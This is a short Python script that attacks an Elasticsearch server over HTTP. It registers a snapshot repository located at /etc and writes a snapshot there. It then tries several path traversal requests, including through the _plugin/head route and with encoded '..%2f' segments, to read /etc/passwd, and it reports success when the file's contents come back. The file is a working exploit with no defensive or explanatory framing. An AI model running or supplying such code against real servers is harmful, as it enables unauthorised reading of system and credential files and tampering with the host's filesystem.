import json
import urllib.request


def ask(method, path, body=None):
    request = urllib.request.Request("http://elasticsearch:9200" + path, method=method, data=body and json.dumps(body).encode())
    request.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.read(500).decode("utf-8", "replace")
    except OSError as error:
        return str(error)


print(ask("PUT", "/_snapshot/out", {"type": "fs", "settings": {"location": "/etc"}}))
print(ask("PUT", "/_snapshot/out/one?wait_for_completion=true"))
for path in ("/../../../../etc/passwd", "/_plugin/head/../../../../../etc/passwd", "/_snapshot/out/..%2f..%2fetc%2fpasswd"):
    said = ask("GET", path)
    print("GOT a file of its machine" if "root:" in said else path)
